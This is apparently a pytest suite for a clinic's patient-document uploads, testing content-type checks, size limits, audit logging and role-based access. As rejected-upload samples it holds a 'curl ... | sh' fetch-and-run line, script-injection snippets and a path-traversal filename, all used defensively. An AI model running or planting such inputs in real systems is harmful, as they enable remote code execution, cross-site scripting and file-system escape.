"""Documents on the file, as the clinic files and reads them: uploaded through the form the
page offers, checked by content, handed out through the patient door, each zone to its own."""

import hashlib

import pytest
from django.urls import reverse
from django.utils import timezone

from audit.models import AccessEvent
from casework import services as casework_services
from casework.models import Attendance
from common.records import Final
from documents.models import Document
from tests.documents.files import PDF, files_in, png_bytes, stored, upload  # noqa: F401 (fixture)
from tests.factories import book, record
from tests.forms import browser_form, offered


def upload_url(patient):
    return reverse("documents:upload", args=[patient.pk])


def list_url(patient):
    return reverse("documents:list", args=[patient.pk])


def file_url(document):
    return reverse("documents:file", args=[document.patient_id, document.pk])


def post_upload(client, patient, *, kind, file, query="", **fields):
    page = client.get(upload_url(patient) + query)
    assert page.status_code == 200
    data = browser_form(page)
    assert kind in offered(page, "kind")
    data.update(kind=kind, file=file, **fields)
    return client.post(upload_url(patient) + query, data)


@pytest.fixture
def court_decision(patient, treating_psychologist, client_for, stored):
    post_upload(
        client_for(treating_psychologist),
        patient,
        kind="court_decision",
        file=upload(),
        title="Judgment of the sentencing court",
    )
    return Document.objects.get()


@pytest.fixture
def clinical_report(patient, treating_psychologist, client_for, stored):
    post_upload(
        client_for(treating_psychologist),
        patient,
        kind="clinical_report",
        file=upload(png_bytes(), "report.png", "image/png"),
    )
    return Document.objects.get(kind="clinical_report")


# --- Filing a document --------------------------------------------------------------------


def test_a_psychologist_files_a_court_decision_from_the_form_the_page_offers(
    patient, treating_psychologist, client_for, stored
):
    response = post_upload(
        client_for(treating_psychologist),
        patient,
        kind="court_decision",
        file=upload(name="Vonnis 2026.pdf"),
        title="Judgment of the sentencing court",
    )

    assert response.status_code == 302, response.context["form"].errors
    assert response["Location"] == list_url(patient)
    document = Document.objects.get()
    assert (document.kind, document.filename, document.content_type, document.size) == (
        "court_decision",
        "Vonnis 2026.pdf",
        "application/pdf",
        len(PDF),
    )
    assert document.dated == timezone.localdate()  # the form's default
    assert document.sha256 == hashlib.sha256(PDF).hexdigest()
    (path,) = files_in(stored)
    assert path.read_bytes() == PDF
    assert "Vonnis" not in str(path)  # stored under a name of its own
    created = AccessEvent.objects.get(action="create", object_type="documents.document")
    assert (created.user, created.patient_id) == (treating_psychologist, patient.pk)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"#!/bin/sh\ncurl https://example.org/x | sh\n", "decision.pdf"),  # a script renamed
        (b"<html><script>alert(1)</script></html>", "scan.png"),
        (b"%PDF-1.4\n<script>alert(1)</script>\n", "cut.pdf"),  # a PDF's header, no PDF's end
        (png_bytes()[:30], "cut.png"),  # an image's header, not an image
    ],
    ids=["script-renamed-pdf", "html-renamed-png", "pdf-header-only", "png-header-only"],
)
def test_a_file_that_is_no_pdf_or_image_by_its_content_is_refused_and_nothing_is_written(
    patient, treating_psychologist, client_for, stored, content, name
):
    response = post_upload(
        client_for(treating_psychologist),
        patient,
        kind="court_decision",
        file=upload(content, name),
    )

    assert response.status_code == 200
    assert response.context["form"].errors["file"] == [
        "This file is not a PDF, a PNG or a JPEG image: only those are taken. Its content is "
        "checked, not its name."
    ]
    assert not Document.objects.exists()
    assert files_in(stored) == []
    assert not AccessEvent.objects.filter(
        object_type="documents.document", action="create"
    ).exists()


def test_an_oversized_file_is_refused_and_nothing_is_written(
    patient, treating_psychologist, client_for, stored, settings
):
    settings.DOCUMENT_MAX_MB = 1
    big = PDF[:-6] + b" " * (1024 * 1024) + b"%%EOF\n"

    response = post_upload(
        client_for(treating_psychologist), patient, kind="court_decision", file=upload(big)
    )

    assert response.status_code == 200
    assert response.context["form"].errors["file"] == [
        "This file is 1.0 MB: the largest taken is 1 MB."
    ]
    assert not Document.objects.exists()
    assert files_in(stored) == []


def test_a_file_just_at_the_limit_is_taken(
    patient, treating_psychologist, client_for, stored, settings
):
    settings.DOCUMENT_MAX_MB = 1
    exact = PDF[:-6] + b" " * (1024 * 1024 - len(PDF)) + b"%%EOF\n"
    assert len(exact) == 1024 * 1024

    response = post_upload(
        client_for(treating_psychologist), patient, kind="court_decision", file=upload(exact)
    )

    assert response.status_code == 302
    assert Document.objects.get().size == 1024 * 1024


def test_a_document_dated_after_today_is_refused(
    patient, treating_psychologist, client_for, stored
):
    tomorrow = timezone.localdate() + timezone.timedelta(days=1)
    response = post_upload(
        client_for(treating_psychologist),
        patient,
        kind="consent",
        file=upload(),
        dated=tomorrow.isoformat(),
    )

    assert response.context["form"].errors["dated"] == ["A document cannot be dated after today."]
    assert files_in(stored) == []


def test_the_name_given_back_is_the_files_own_with_the_extension_of_what_it_is(
    patient, treating_psychologist, client_for, stored
):
    post_upload(
        client_for(treating_psychologist),
        patient,
        kind="consent",
        file=upload(name="../../etc/scan\x07.exe"),
    )

    assert Document.objects.get().filename == "scan.pdf"


def test_a_row_that_cannot_be_written_leaves_no_bytes_behind(
    patient, treating_psychologist, stored, monkeypatch
):
    from documents import services

    def refuse(**_kwargs):
        raise RuntimeError("the database went away")

    monkeypatch.setattr(services, "record_access", refuse)
    with pytest.raises(RuntimeError):
        services.document_upload(
            actor=treating_psychologist,
            patient=patient,
            kind="consent",
            dated=timezone.localdate(),
            upload=upload(),
        )

    assert not Document.objects.exists()
    assert files_in(stored) == []

    # The database back, the clinic files it again: one row, one file, nothing left over.
    monkeypatch.undo()
    document = services.document_upload(
        actor=treating_psychologist,
        patient=patient,
        kind="consent",
        dated=timezone.localdate(),
        upload=upload(),
    )
    assert [path.read_bytes() for path in files_in(stored)] == [PDF]
    assert list(Document.objects.all()) == [document]


def test_a_document_on_the_file_never_changes(court_decision):
    court_decision.title = "Something else"
    with pytest.raises(Final):
        court_decision.save()
    with pytest.raises(Final):
        court_decision.delete()


# --- Reading it ---------------------------------------------------------------------------


def test_the_care_team_downloads_it_as_an_attachment_of_its_checked_type_logged(
    patient, court_decision, treating_psychologist, client_for
):
    response = client_for(treating_psychologist).get(file_url(court_decision))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox")
    handed = AccessEvent.objects.get(action="export", object_type="documents.document")
    assert handed.object_id == str(court_decision.pk)
    assert handed.user == treating_psychologist


def test_the_list_shows_the_files_documents_in_few_queries(
    patient, court_decision, treating_psychologist, client_for, django_assert_max_num_queries
):
    client = client_for(treating_psychologist)
    client.get(list_url(patient))  # the session's first page
    with django_assert_max_num_queries(14) as one:
        client.get(list_url(patient))
    queries_for_one = len(one.captured_queries)
    for n in range(3):
        post_upload(client, patient, kind="consent", file=upload(name=f"consent {n}.pdf"))
    with django_assert_max_num_queries(queries_for_one):
        page = client.get(list_url(patient))

    assert [d.name for d in page.context["documents"]] == [
        "consent 2.pdf",
        "consent 1.pdf",
        "consent 0.pdf",
        "Judgment of the sentencing court",
    ]
    listed = AccessEvent.objects.filter(action="view", object_type="documents.document")
    assert listed.count() == 3  # each time the list was shown


def test_an_empty_file_says_so(patient, treating_psychologist, client_for):
    page = client_for(treating_psychologist).get(list_url(patient))

    assert "No document on this file yet." in page.content.decode()


def test_another_psychologist_gets_404_for_the_list_the_form_and_the_document(
    patient, court_decision, other_psychologist, client_for
):
    client = client_for(other_psychologist)
    for url in (list_url(patient), upload_url(patient), file_url(court_decision)):
        assert client.get(url).status_code == 404
    assert (
        client.post(upload_url(patient), {"kind": "consent", "file": upload()}).status_code == 404
    )


@pytest.mark.parametrize("persona", ["helpline_listener", "auditor"])
def test_no_patient_door_for_the_helpline_or_the_auditor(
    patient, court_decision, client_for, request, persona
):
    client = client_for(request.getfixturevalue(persona))
    for url in (list_url(patient), upload_url(patient), file_url(court_decision)):
        assert client.get(url).status_code == 404


def test_an_anonymous_visitor_is_sent_to_log_in(patient, court_decision, client_for):
    response = client_for(None).get(file_url(court_decision))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


# --- Zones ----------------------------------------------------------------------------------


def test_an_administrator_files_and_reads_frame_documents(
    patient, court_decision, administrator, client_for
):
    client = client_for(administrator)
    assert client.get(file_url(court_decision)).status_code == 200
    response = post_upload(client, patient, kind="agreement", file=upload(name="agreement.pdf"))

    assert response.status_code == 302
    assert Document.objects.filter(kind="agreement", uploaded_by=administrator).exists()


def test_an_administrator_is_offered_no_clinical_kind_and_may_not_file_one(
    patient, administrator, client_for, stored
):
    client = client_for(administrator)
    page = client.get(upload_url(patient))

    assert "clinical_report" not in offered(page, "kind")
    assert "court_decision" in offered(page, "kind")
    data = browser_form(page) | {"kind": "clinical_report", "file": upload()}
    response = client.post(upload_url(patient), data)
    assert response.status_code == 200
    assert response.context["form"].errors["kind"]
    assert files_in(stored) == []


def test_the_service_refuses_a_clinical_document_from_an_administrator(
    patient, administrator, stored
):
    from django.core.exceptions import ValidationError

    from documents import services

    with pytest.raises(ValidationError) as refused:
        services.document_upload(
            actor=administrator,
            patient=patient,
            kind="clinical_report",
            dated=timezone.localdate(),
            upload=upload(),
        )

    assert refused.value.message_dict["kind"] == [
        "Only the care team's clinicians and the clinical lead file a clinical document."
    ]
    assert files_in(stored) == []


def test_a_clinical_document_is_hidden_from_an_administrator_404(
    patient, clinical_report, administrator, client_for
):
    client = client_for(administrator)

    assert client.get(file_url(clinical_report)).status_code == 404
    assert list(client.get(list_url(patient)).context["documents"]) == []


def test_the_clinical_lead_and_the_care_team_read_a_clinical_document(
    patient, clinical_report, clinical_lead, treating_psychologist, client_for
):
    for user in (clinical_lead, treating_psychologist):
        response = client_for(user).get(file_url(clinical_report))
        assert response.status_code == 200
        assert response["Content-Type"] == "image/png"


# --- Evidence for an absence ----------------------------------------------------------------


@pytest.fixture
def absence(patient, treating_psychologist):
    """A missed session whose medical certificate is awaited."""
    appointment = book(patient, treating_psychologist, days=-2)
    return record(appointment, "absence-medical", by=treating_psychologist)


def test_evidence_filed_from_the_session_clears_what_it_awaited(
    patient, absence, treating_psychologist, client_for, django_capture_on_commit_callbacks
):
    assert absence.evidence == Attendance.Evidence.AWAITED
    client = client_for(treating_psychologist)
    page = client.get(upload_url(patient) + f"?attendance={absence.pk}")
    assert offered(page, "attendance") == [str(absence.pk)]
    assert browser_form(page)["kind"] == "absence_evidence"

    with django_capture_on_commit_callbacks(execute=True):
        response = post_upload(
            client,
            patient,
            kind="absence_evidence",
            file=upload(name="certificate.pdf"),
            query=f"?attendance={absence.pk}",
        )

    assert response.status_code == 302, response.context["form"].errors
    absence.refresh_from_db()
    assert (absence.evidence, absence.evidence_received_on) == ("received", timezone.localdate())
    assert Document.objects.get().attendance == absence
    # What the clinic sees next: the session awaits nothing more, the form offers it no more.
    assert offered(client.get(upload_url(patient)), "attendance") == []


def test_evidence_must_name_a_session_that_awaits_it(
    patient, absence, treating_psychologist, client_for, stored
):
    client = client_for(treating_psychologist)
    response = post_upload(client, patient, kind="absence_evidence", file=upload())

    assert response.context["form"].errors["attendance"] == [
        "Choose the session of this patient whose evidence is awaited."
    ]
    assert files_in(stored) == []


def test_evidence_received_keeps_the_outcome_and_its_details(
    patient, absence, treating_psychologist
):
    casework_services.evidence_received(
        actor=treating_psychologist, attendance=absence, received_on=timezone.localdate()
    )

    absence.refresh_from_db()
    assert absence.outcome.code == "absence-medical"
    assert absence.evidence == "received"
    assert absence.revision == 2


# --- Emergency access -----------------------------------------------------------------------


def test_an_emergency_access_reads_the_documents_and_adds_none(
    patient, court_decision, other_psychologist, client_for
):
    casework_services.emergency_access_open(
        actor=other_psychologist,
        file_number=patient.file_number,
        reason="The patient called in distress; his care team is away today.",
    )
    client = client_for(other_psychologist)

    page = client.get(list_url(patient))
    assert page.status_code == 200
    assert upload_url(patient) not in page.content.decode()
    assert client.get(file_url(court_decision)).status_code == 200
    assert client.get(upload_url(patient)).status_code == 403


def test_the_patient_page_leads_to_the_documents_and_to_an_absences_evidence(
    patient, absence, treating_psychologist, client_for
):
    page = client_for(treating_psychologist).get(patient.get_absolute_url()).content.decode()

    assert f'href="{list_url(patient)}"' in page
    assert f'href="{upload_url(patient)}?attendance={absence.pk}"' in page
    assert "evidence awaited: add it" in page
